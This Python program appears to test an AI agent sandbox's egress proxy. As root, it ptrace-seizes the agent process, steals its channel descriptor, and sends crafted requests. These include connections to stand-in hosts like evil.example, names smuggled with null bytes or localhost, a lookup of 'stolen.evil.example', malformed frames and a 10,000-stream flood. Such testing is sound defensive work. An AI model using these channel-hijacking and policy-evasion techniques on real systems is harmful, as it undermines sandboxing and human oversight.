"""A program of root's that speaks to the host in the agent's place: it stops the agent, takes its
channel, and sends what the agent never would. Prints what comes back.

The channel is one port with many streams (yamux), of which one carries the session of egress, or a
socket that carries it alone. The session is yamux, too.
"""

import ctypes
import itertools
import json
import os
import select
import signal
import socket
import struct
import sys

# Numbers of system calls, and of requests to ptrace(2).
WRITE, SENDTO, PIDFD_OPEN, PIDFD_GETFD = 1, 44, 434, 438
SEIZE, INTERRUPT, RUN_TO_CALL, DETACH, REGISTERS = 0x4206, 0x4207, 24, 17, 12
AGENT, WALL = 1, 0x40000000

# Kinds and flags of frames.
HEADER = struct.Struct(">BBHII")
DATA, WINDOW_UPDATE = 0, 1
SYN, FIN, RST = 1, 4, 8

MARK = b"asked-for.evil.example"
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def trace(request, data=0):
    return checked(libc.ptrace(request, AGENT, None, data))


def registers():
    values = (ctypes.c_ulonglong * 27)()
    checked(libc.ptrace(REGISTERS, AGENT, None, ctypes.addressof(values)))
    # Number, result, descriptor, address and length of a call that writes.
    return values[15], values[10], values[14], values[13], values[12]


def stop_agent():
    """Stops the agent when it has just sent a lookup; returns its descriptor, and the bytes."""
    trace(SEIZE, 1)
    trace(INTERRUPT)
    if (asking := os.fork()) == 0:
        try:
            socket.gethostbyname(MARK.decode())
        finally:
            os._exit(0)
    with open("/proc/1/mem", "rb", buffering=0) as memory:
        while True:
            _, status = os.waitpid(AGENT, WALL)
            stopped_by = status >> 8
            if stopped_by == signal.SIGTRAP | 0x80:
                number, result, fd, address, length = registers()
                if number in (WRITE, SENDTO) and result == length:
                    memory.seek(address)
                    if MARK in (sent := memory.read(length)):
                        return fd, sent, asking
            is_signal = stopped_by < 128 and stopped_by != signal.SIGTRAP
            trace(RUN_TO_CALL, stopped_by if is_signal else 0)


def frames(data):
    """The frames that lie in `data`."""
    while data:
        _, kind, flags, stream, length = HEADER.unpack_from(data)
        body = data[HEADER.size :][: length if kind == DATA else 0]
        data = data[HEADER.size + len(body) :]
        yield kind, flags, stream, length, body


def frame(kind, flags, stream, body=b"", length=None):
    return HEADER.pack(0, kind, flags, stream, len(body) if length is None else length) + body


class Session:
    """The session of egress, while the agent is stopped."""

    def __init__(self):
        # An agent runs on when what stopped it ends.
        signal.alarm(60)
        number, sent, self.asking = stop_agent()
        self.fd = checked(libc.syscall(PIDFD_GETFD, checked(libc.syscall(PIDFD_OPEN, 1, 0)), number, 0))
        self.outer = None
        if "vport" in os.readlink(f"/proc/1/fd/{number}"):
            self.outer = next(stream for *_, stream, _, body in frames(sent) if MARK in body)
        # The host gives more when half of a window is used.
        self.credit = 128 << 10
        self.received = b""

    def leave(self):
        trace(DETACH)
        os.close(self.fd)
        os.kill(self.asking, signal.SIGKILL)
        os.waitpid(self.asking, 0)
        signal.alarm(0)

    def raw(self, data):
        while data:
            select.select([], [self.fd], [])
            data = data[os.write(self.fd, data) :]

    def send(self, data):
        """Sends bytes of the session."""
        if self.outer is None:
            self.raw(data)
        else:
            while data:
                while not self.credit:
                    self.receive()
                piece, data = data[: self.credit], data[self.credit :]
                self.credit -= len(piece)
                self.raw(frame(DATA, 0, self.outer, piece))

    def exactly(self, count):
        data = b""
        while len(data) < count:
            select.select([self.fd], [], [])
            data += os.read(self.fd, count - len(data))
        return data

    def receive(self):
        """Receives some more bytes of the session."""
        if self.outer is None:
            select.select([self.fd], [], [])
            self.received += os.read(self.fd, 1 << 16)
            return
        _, kind, _, stream, length = HEADER.unpack(self.exactly(HEADER.size))
        body = self.exactly(length) if kind == DATA else b""
        if stream == self.outer and kind == WINDOW_UPDATE:
            self.credit += length
        if stream == self.outer and body:
            self.received += body
            self.raw(frame(WINDOW_UPDATE, 0, self.outer, length=len(body)))

    def one(self):
        """The next frame of the session."""
        while True:
            if len(self.received) >= HEADER.size:
                _, kind, *_, length = HEADER.unpack_from(self.received)
                end = HEADER.size + (length if kind == DATA else 0)
                if len(self.received) >= end:
                    data, self.received = self.received[:end], self.received[end:]
                    return next(frames(data))
            self.receive()

    def answers(self, requests):
        """Opens a stream for each request at once; returns the answers, None for a reset."""
        asked = {stream: encoded(request) for stream, request in zip(STREAMS, requests)}
        self.send(b"".join(frame(DATA, SYN, stream, body) for stream, body in asked.items()))
        answered, parts = {}, dict.fromkeys(asked, b"")
        while len(answered) < len(asked):
            _, flags, stream, _, body = self.one()
            if stream not in asked or stream in answered:
                continue
            parts[stream] += body
            if parts[stream]:
                answer = json.loads(parts[stream][2:])
                answered[stream] = answer.get("reason", answer["answer"])
            elif flags & (FIN | RST):
                answered[stream] = None
        return [answered[stream] for stream in asked]


# Far from those that the agent uses. It is the client, whose numbers are odd.
STREAMS = itertools.count(1_000_001, 2)


def encoded(request):
    body = json.dumps(request, separators=(",", ":")).encode()
    return struct.pack(">H", len(body)) + body


def opening(address, port, *names):
    return {"op": "open", "address": address, "port": port, "names": names}


def other_ways():
    """The channel's device is taken, and there is no other."""
    ports = [port for port in os.listdir("/dev") if port.startswith("vport")]
    for port in ports:
        try:
            os.close(os.open(f"/dev/{port}", os.O_RDWR))
            yield port
        except OSError:
            pass
    for host in (1, 2):
        for port in (1, 22, 80, 1024):
            try:
                with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
                    s.connect((host, port))
                    yield host, port
            except OSError:
                pass


def speak(daemon_port):
    print(list(other_ways()))
    session = Session()
    claims = session.answers(
        (
            opening("45.45.0.2", 7777),
            opening("45.45.0.2", 7777, "evil.example"),
            opening("45.45.0.2", 443, "evil.example", "good.example.evil"),
            opening("10.77.0.1", 7777, "\0", "good.example\0", "*", "127.0.0.1"),
            opening("127.0.0.1", daemon_port, "localhost"),
            opening("::ffff:127.0.0.1", daemon_port),
            # The host dials the name, not the address.
            opening("45.45.0.2", 7777, "good.example"),
            {"op": "resolve", "name": "stolen.evil.example", "family": "v4"},
            {"op": "dance"},
        )
    )
    # Names that a frame is too small for, and bytes that are none.
    bytes_too_many = frame(DATA, SYN, next(STREAMS), b"\xff\xff" + bytes(5000))
    session.send(bytes_too_many + frame(DATA, SYN, next(STREAMS), b"\0\5hello"))
    # Ten thousand, a thousand at once; nothing is read while they are sent.
    flood = [session.answers([opening("45.45.0.2", 7777)] * 1000) for _ in range(10)]
    flood = {answer for answers in flood for answer in answers}
    # Each is reset at once.
    for stream in itertools.islice(STREAMS, 500):
        opened = frame(DATA, SYN, stream, encoded(opening("45.45.0.2", 7777)))
        session.send(opened + frame(WINDOW_UPDATE, RST, stream))
    session.leave()
    print(*claims, sep="\n")
    print(flood <= {"no_rule", "rate_limit", "connection_limit", None}, "rate_limit" in flood)


def break_session():
    session = Session()
    session.send(b"\xff" * 64)
    session.leave()


def break_channel():
    session = Session()
    session.raw(b"\xff" * 4096)
    session.leave()
